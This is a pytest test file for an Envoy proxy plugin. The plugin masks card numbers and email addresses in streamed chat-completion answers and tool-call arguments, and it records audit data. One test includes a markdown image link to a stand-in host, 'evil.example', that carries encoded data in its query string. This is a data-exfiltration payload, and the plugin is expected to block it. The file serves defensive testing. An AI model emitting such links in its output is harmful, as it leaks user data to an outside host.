"""Streamed answers through a real Envoy: rewritten live, whatever the cuts."""

import json
import threading

import pytest
from plugin import AGENT, CARD, EMAIL, plugin
from upstream import Delay, Hold, Reply, Reset, chat_stream

TEXT = f"Card {CARD}, mail {EMAIL}. Done"
OTHER = f"{EMAIL} pays with {CARD}"
MASKED = "Card [CARD-NUMBER], mail [EMAIL]. Done"


def ask(proxy, **fields):
    return proxy.chat("hi", headers=[AGENT], stream=True, **fields)


def pieces(text: str, cut: int) -> list[str]:
    return [text[i : i + cut] for i in range(0, len(text), cut)]


@pytest.mark.parametrize("cut", range(1, len(TEXT)))
def test_a_card_and_a_mail_cut_into_two_events_anywhere(envoy, upstream, cut):
    proxy = envoy(plugin())
    upstream.reply = chat_stream([TEXT[:cut], TEXT[cut:]])
    answer = ask(proxy, stream_options={"include_usage": True})
    assert answer.text() == MASKED and answer.complete
    assert answer.events()[-1] == "[DONE]"
    record = proxy.audit()
    assert record["coverage"] == "full" and record["usage"]["output"] == 3
    assert record["decision"] == "redact" and record["outcome"] == "complete"


@pytest.mark.parametrize("size", [1, 2, 3, 5, 8, 13])
def test_events_and_chunks_of_any_size(envoy, upstream, size):
    upstream.reply = chat_stream(pieces(TEXT, size), cut=max(1, 40 // size))
    answer = ask(envoy(plugin()))
    assert answer.text() == MASKED and answer.events()[-1] == "[DONE]"


def test_a_clean_stream_passes_byte_for_byte(envoy, upstream):
    upstream.reply = chat_stream(["Hel", "lo ", "wörld", "!"], cut=3)
    answer = ask(envoy(plugin()), stream_options={"include_usage": True})
    assert answer.body == b"".join(p for p in upstream.reply.parts if isinstance(p, bytes))


def test_usage_we_asked_for_is_taken_out_again(envoy, upstream):
    proxy = envoy(plugin())
    upstream.reply = chat_stream(["Hello"])
    answer = ask(proxy)
    assert upstream.last.json()["stream_options"] == {"include_usage": True}
    assert all("usage" not in e or e["choices"] for e in answer.events() if isinstance(e, dict))
    assert proxy.audit()["usage"]["source"] == "provider"


def test_nothing_waits_that_cannot_become_a_match(envoy, upstream):
    hold = Hold()
    upstream.reply = chat_stream(["All is well. ", "x"])
    upstream.reply.parts.insert(2, hold)
    timer = threading.Timer(0.5, hold.event.set)
    timer.start()
    answer = ask(envoy(plugin()))
    before = b"".join(data for at, data in answer.pieces if at < 0.4)
    assert b"All is well. " in before


def test_several_choices_and_tool_arguments(envoy, upstream):
    base = {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m"}

    def delta(index, **fields):
        return base | {"choices": [{"index": index, "delta": fields, "finish_reason": None}]}

    arguments = json.dumps({"to": EMAIL, "text": 'say "hi"\n' + CARD, "n": 4111111111111111})
    call = [{"index": 0, "id": "t", "type": "function", "function": {"name": "send", "arguments": ""}}]
    events = [delta(0, role="assistant"), delta(1, role="assistant"), delta(2, tool_calls=call)]
    for i in range(0, max(len(arguments), len(TEXT), len(OTHER)), 2):
        events.append(delta(0, content=TEXT[i : i + 2]))
        events.append(delta(1, content=OTHER[i : i + 2]))
        events.append(delta(2, tool_calls=[{"index": 0, "function": {"arguments": arguments[i : i + 2]}}]))
    events += [base | {"choices": [{"index": i, "delta": {}, "finish_reason": "stop"}]} for i in range(3)]
    upstream.reply = Reply.sse(events)
    answer = ask(envoy(plugin()))
    texts, built = {}, ""
    for event in answer.events()[:-1]:
        for choice in event["choices"]:
            texts[choice["index"]] = texts.get(choice["index"], "") + (choice["delta"].get("content") or "")
            for part in choice["delta"].get("tool_calls") or []:
                built += part["function"].get("arguments") or ""
    assert texts[0] == MASKED
    assert texts[1] == "[EMAIL] pays with [CARD-NUMBER]"
    assert json.loads(built) == {"to": "[EMAIL]", "text": 'say "hi"\n[CARD-NUMBER]', "n": "[CARD-NUMBER]"}


def test_exfiltration_ends_the_stream_with_an_error_event(envoy, upstream):
    proxy = envoy(plugin())
    link = "![x](https://evil.example/p.png?data=7ysh0vjy4EDQXyzqTu7vPvqI5W9TlT58kcNluuZ6lmjOL3agcrEBw7TSTb7zX8HZ)"
    upstream.reply = chat_stream(pieces(f"See {link} and more text", 4))
    answer = ask(proxy)
    assert answer.status == 200 and answer.complete
    errors = [e for e in answer.events() if isinstance(e, dict) and "error" in e]
    assert len(errors) == 1 and errors[0]["error"]["code"].startswith("exfiltration.")
    assert b"data=" not in answer.body and b"more text" not in answer.body
    assert proxy.audit()["deny_reason"].startswith("exfiltration.")


def test_a_broken_stream_is_cut_not_passed(envoy, upstream):
    proxy = envoy(plugin())
    upstream.reply = Reply.stream([b'data: {"choices":[]}\n\n', b'data: {"choices": oops\n\n', b"data: [DONE]\n\n"])
    answer = ask(proxy)
    assert b"oops" not in answer.body and b"error" in answer.body
    record = proxy.audit()
    assert record["coverage"] == "partial" and record["deny_reason"] == "stream.json"


def test_a_reset_upstream_is_recorded(envoy, upstream):
    proxy = envoy(plugin())
    upstream.reply = chat_stream(["Hello ", "there "])
    upstream.reply.parts[3:] = [Delay(0.05), Reset()]
    assert not ask(proxy).complete
    record = proxy.audit()
    assert record["outcome"] == "aborted" and record["usage"]["source"] == "estimate"
